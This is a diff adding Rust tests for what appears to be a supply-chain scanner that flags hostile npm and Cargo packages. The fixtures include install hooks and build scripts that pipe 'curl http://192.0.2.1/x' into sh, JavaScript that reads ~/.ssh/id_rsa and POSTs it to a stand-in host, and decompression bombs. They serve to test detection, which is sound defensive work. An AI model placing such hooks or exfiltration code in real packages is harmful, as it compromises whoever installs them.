@@ -94,3 +94,164 @@ fn a_tarball_of_two_folders_is_judged_as_npm_installs_it() {
         assert_eq!(twin.manifest.name.as_deref(), Some("x"));
     }
 }
+
+/// An npm package with an install hook.
+fn hooked(hook: &str, files: &[(&str, &str)]) -> ArtifactFacts {
+    let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":{hook:?}}}}}");
+    npm(&[&[("package.json", manifest.as_str())], files].concat())
+}
+
+const SH: &str = "curl -fsSL http://192.0.2.1/x | sh\n";
+
+#[test]
+fn a_file_is_read_in_the_language_of_whoever_runs_it() {
+    let python = "import os\nos.system('curl http://192.0.2.1/x | sh')\n";
+    for (hook, path, text, benign) in [
+        ("node README.md", "README.md", RUNS, "# How to\n\nRun `curl http://192.0.2.1/x | sh`.\n"),
+        ("node install", "install", RUNS, "exports.a = 1;\n"),
+        ("node < lib/x.dat", "lib/x.dat", RUNS, "exports.a = 1;\n"),
+        ("cat lib/x.dat | node", "lib/x.dat", RUNS, "exports.a = 1;\n"),
+        ("node -e \"$(cat lib/x.dat)\"", "lib/x.dat", RUNS, "exports.a = 1;\n"),
+        ("node --require=./x.dat -e 1", "x.dat", RUNS, "exports.a = 1;\n"),
+        ("node -e \"require('./x.dat')\"", "x.dat", RUNS, "exports.a = 1;\n"),
+        ("sh lib/run.txt", "lib/run.txt", SH, "echo done\n"),
+        (". ./run.txt", "run.txt", SH, "echo done\n"),
+        ("bash <(cat run.txt)", "run.txt", SH, "echo done\n"),
+        ("eval \"$(cat run.txt)\"", "run.txt", SH, "echo done\n"),
+        ("chmod +x run.txt && ./run.txt", "run.txt", SH, "echo done\n"),
+        ("python3 notes.txt", "notes.txt", python, "print('done')\n"),
+        // A name of another language.
+        ("node run.sh", "run.sh", RUNS, "exports.a = 1;\n"),
+        ("sh a.js", "a.js", SH, "echo done\n"),
+    ] {
+        let facts = hooked(hook, &[(path, text)]);
+        assert!(surely(&facts, SHELL), "{hook}: {:#?}", facts.signals);
+        let twin = hooked(hook, &[(path, benign)]);
+        assert!(!holds(&twin), "{hook}: {:#?}", twin.signals);
+    }
+}
+
+#[test]
+fn what_a_package_loads_is_read_whatever_it_is_called() {
+    let main = |main: &str| format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"{main}\"}}");
+    let steals = "const fs = require('fs'), os = require('os'), https = require('https');\n\
+                  const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n\
+                  https.request({ hostname: '192.0.2.1', method: 'POST' }).end(key);\n";
+    let found = |files: &[(&str, &str)]| {
+        let facts = npm(files);
+        assert!(surely(&facts, "behaviour/credential-theft"), "{files:?}: {:#?}", facts.signals);
+    };
+    for path in ["m", "m.dat", "lib/m.css", "m.py"] {
+        found(&[("package.json", &main(path)), (path, steals)]);
+        // A first line that only a shell goes by.
+        found(&[("package.json", &main(path)), (path, &format!("#!/bin/sh\n{steals}"))]);
+        found(&[("package.json", &main("a.js")), ("a.js", &format!("require('./{path}');\n")), (path, steals)]);
+    }
+    found(&[("package.json", &main("lib")), ("lib/package.json", "{\"main\":\"x.dat\"}"), ("lib/x.dat", steals)]);
+    // One leads to the next.
+    found(&[("package.json", &main("a")), ("a", "require('./b.b')"), ("b.b", "require('./c.c')"), ("c.c", steals)]);
+    // What a bundler loads is no code of this language.
+    let twin = npm(&[
+        ("package.json", &main("a.js")),
+        ("a.js", "require('./a.css'); require('./b.png'); require('./data.json');\n"),
+        ("a.css", ".a { color: red }\n"),
+        ("b.png", "\u{fffd}PNG\r\n\u{1a}\n\0\0"),
+        ("data.json", "{}"),
+    ]);
+    assert!(twin.signals.iter().all(|signal| signal.id == "behaviour/empty-placeholder"), "{:#?}", twin.signals);
+}
+
+#[test]
+fn build_scripts_of_any_name_are_read() {
+    let runs = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://192.0.2.1/x | sh\").status().unwrap(); }\n";
+    let look = |manifest: &str, files: &[(&str, &str)]| {
+        let mut all =
+            vec![("x-1.0.0/Cargo.toml".to_owned(), format!("[package]\nname = \"x\"\nversion = \"1.0.0\"\n{manifest}").into_bytes())];
+        all.extend(files.iter().map(|(path, text)| (format!("x-1.0.0/{path}"), text.as_bytes().to_vec())));
+        analyse_tree(Some(Ecosystem::Cargo), &all, &AnalysisLimits::default())
+    };
+    for (manifest, files) in [
+        ("build = \"b/x.txt\"\n", vec![("b/x.txt", runs)]),
+        ("", vec![("build.rs", "include!(\"x.txt\");\n"), ("x.txt", runs)]),
+        ("", vec![("build.rs", "include!(concat!(env!(\"CARGO_MANIFEST_DIR\"), \"/b/x.txt\"));\n"), ("b/x.txt", runs)]),
+        ("", vec![("build.rs", "#[path = \"x.txt\"]\nmod x;\nfn main() { x::main() }\n"), ("x.txt", runs)]),
+    ] {
+        let facts = look(manifest, &files);
+        assert!(holds(&facts), "{files:?}: {:#?}", facts.signals);
+    }
+    let twin = look("", &[("build.rs", "fn main() { let t = include!(\"x.rsv\"); println!(\"{t:?}\") }\n"), ("x.rsv", "(1, 2)")]);
+    assert!(!holds(&twin), "{:#?}", twin.signals);
+}
+
+#[test]
+fn the_native_build_runs_its_actions() {
+    let look = |action: &str| {
+        let gyp = format!("{{'targets': [{{'target_name': 'x', 'actions': [{{'action_name': 'a', 'action': {action}}}]}}]}}");
+        npm(&[("package.json", PLAIN), ("binding.gyp", &gyp)])
+    };
+    let facts = look("[\"sh\",\"-c\",\"curl -s http://192.0.2.1/p.sh | sh\"]");
+    assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
+    let twin = look("[\"bash\", \"build.sh\"]");
+    assert!(!holds(&twin), "{:#?}", twin.signals);
+}
+
+#[test]
+fn a_shipped_program_that_an_install_hook_starts_holds() {
+    let program = format!("\u{7f}ELF\u{2}\u{1}\u{1}{}", "\0".repeat(400));
+    for hook in ["./run", "chmod 755 test/run && test/run", "sh go.sh"] {
+        let facts = hooked(hook, &[("run", &program), ("test/run", &program), ("go.sh", "./run --quiet\n")]);
+        assert!(surely(&facts, "behaviour/foreign-binary"), "{hook}: {:#?}", facts.signals);
+    }
+    let twin = hooked("node a.js", &[("run", &program), ("a.js", "exports.a = 1;\n"), ("go.sh", "./run --quiet\n")]);
+    assert!(!holds(&twin), "{:#?}", twin.signals);
+}
+
+#[test]
+fn an_archive_that_a_hook_unpacks_and_nobody_read_holds() {
+    let unread = "behaviour/inner-archive-unread";
+    for (hook, name) in [
+        ("tar xf v.7z; sh s.sh", "v.7z"),
+        ("7z x lib/x.7z && node s.js", "lib/x.7z"),
+        ("for f in *.7z; do 7z x $f; done; node s.js", "vendor.7z"),
+    ] {
+        let manifest = format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":{hook:?}}}}}");
+        let bytes = [&b"7z\xbc\xaf\x27\x1c\0\x04"[..], &[7; 64]].concat();
+        let look = |path: &str, manifest: &str| {
+            let files = [("package/package.json".to_owned(), manifest.as_bytes().to_vec()), (format!("package/{path}"), bytes.clone())];
+            analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
+        };
+        let facts = look(name, &manifest);
+        assert!(failed(&facts, unread), "{hook}: {:#?}", facts.signals);
+        let twin = look(name, PLAIN);
+        assert!(!holds(&twin) && twin.signals.iter().any(|signal| signal.id == unread), "{hook}: {:#?}", twin.signals);
+    }
+}
+
+#[test]
+fn many_bombs_are_no_data_of_a_test() {
+    let bomb = gzip(&TarBuilder::new().file("zeros", &vec![0; 40 << 20]).finish());
+    let look = |count: usize, folder: &str| {
+        let bombs = (0..count).map(|at| (format!("package/{folder}/{at}.tgz"), bomb.clone()));
+        let files: Vec<(String, Vec<u8>)> = bombs.chain([("package/package.json".to_owned(), PLAIN.as_bytes().to_vec())]).collect();
+        analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
+    };
+    assert!(failed(&look(60, "lib"), "behaviour/inner-archive-unread"));
+    assert!(!holds(&look(2, "lib")));
+    assert!(!holds(&look(60, "test")));
+}
+
+#[test]
+fn what_a_hook_starts_out_of_an_archive_is_read_or_held() {
+    let look = |name: &str, text: &str| {
+        let packed = gzip(&TarBuilder::new().file(name, text.as_bytes()).finish());
+        let manifest =
+            format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"tar xzf vendor.tgz && node {name}\"}}}}");
+        let files = [("package/package.json".to_owned(), manifest.into_bytes()), ("package/vendor.tgz".to_owned(), packed)];
+        analyse_tree(Some(Ecosystem::Npm), &files, &AnalysisLimits::default())
+    };
+    let facts = look("s.js", RUNS);
+    assert!(surely(&facts, SHELL), "{:#?}", facts.signals);
+    assert!(!holds(&look("s.js", "exports.a = 1;\n")));
+    // Of what is no source by its name nothing was kept.
+    assert!(failed(&look("s.dat", RUNS), "behaviour/inner-archive-unread"));
+}
